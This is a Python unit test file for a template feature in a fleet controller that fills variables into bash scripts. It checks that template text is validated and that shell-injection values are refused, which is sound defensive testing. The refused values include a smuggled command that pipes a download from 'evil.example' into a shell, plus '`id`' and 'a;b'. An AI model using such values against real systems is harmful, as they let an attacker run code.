"""Texts that roles give their instances."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.kinds.template import VARIABLES, UnsafeValue, filled_in, safe_value, variables_in
from tests.unit.kinds.small_fleet import complaints, items

SCRIPT = (
    '#!/bin/bash\necho "{{ environment }} {{role}}" > ${HOME}/role\ndocker ps --format {{.ID}}\n'
)


def test_its_item_is_in_the_controllers_own_table() -> None:
    assert items("Template", "linux-web", {"text": SCRIPT}) == {
        "EnvctlConfig": {"Kind": "Template", "Name": "linux-web", "Value": {"Text": SCRIPT}}
    }


@pytest.mark.parametrize(
    ("spec", "at", "words"),
    [
        ({}, "spec.text", "required"),
        ({"text": ""}, "spec.text", "text of 1 to 16384 characters"),
        ({"text": "x" * 16385}, "spec.text", "text of 1 to 16384 characters"),
        ({"text": "é" * 8193}, "spec.text", "16386 bytes"),
        ({"text": "{{ enviroment }}"}, "spec.text", "no variable 'enviroment'; those are environment,"),
        ({"text": "{{ Role }}"}, "spec.text", "no variable 'Role'"),
    ],
)  # fmt: skip
def test_what_is_refused(spec: dict[str, Any], at: str, words: str) -> None:
    (complaint,) = complaints("Template", "linux-web", spec)
    assert complaint.startswith(at)
    assert words in complaint


def test_what_is_no_plain_name_in_braces_is_text() -> None:
    assert complaints("Template", "linux-web", {"text": SCRIPT}) == []
    assert list(variables_in(SCRIPT)) == ["environment", "role"]
    assert filled_in(SCRIPT, {"environment": "c50", "role": "Web"}) == SCRIPT.replace(
        "{{ environment }} {{role}}", "c50 Web"
    )


def test_a_variable_without_a_value_is_an_error() -> None:
    with pytest.raises(KeyError, match="role"):
        filled_in("{{ role }}", {})


PLAIN = st.from_regex(r"[A-Za-z0-9@._:,/+-]*", fullmatch=True)


@given(st.text(), st.sampled_from(sorted(VARIABLES)), PLAIN)
def test_values_are_put_in_as_they_are(before: str, name: str, value: str) -> None:
    text = f"{before}{{{{ {name} }}}}"
    if not list(variables_in(before)):
        assert filled_in(text, {name: value}) == f"{before}{value}"


@pytest.mark.parametrize(
    "value",
    ["$(curl${IFS}evil.example|sh)@x.yz", "`id`", "a b", "a;b", "a\nb", "x\n", "$HOME", "a'b", 'a"b',
     "a\\b", "a|b", "a&b", "a>b", "a*", "~", "é", "\u202e", "a#b", "%PATH%", "a!b", "a(b", "a{b"],
)  # fmt: skip
def test_what_a_shell_could_read_as_more_than_text_is_not_put_in(value: str) -> None:
    with pytest.raises(UnsafeValue, match="contactEmail is") as refused:
        filled_in("MAIL={{ contactEmail }}", {"contactEmail": value})
    assert refused.value.fix == "correct it, or leave contactEmail out"
    assert filled_in("no variable", {"contactEmail": value}) == "no variable"


@given(st.text())
def test_what_is_put_in_has_no_other_character(value: str) -> None:
    plain = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789@._:,/+-")
    if set(value) <= plain:
        assert safe_value("role", value) == value
    else:
        with pytest.raises(UnsafeValue):
            safe_value("role", value)
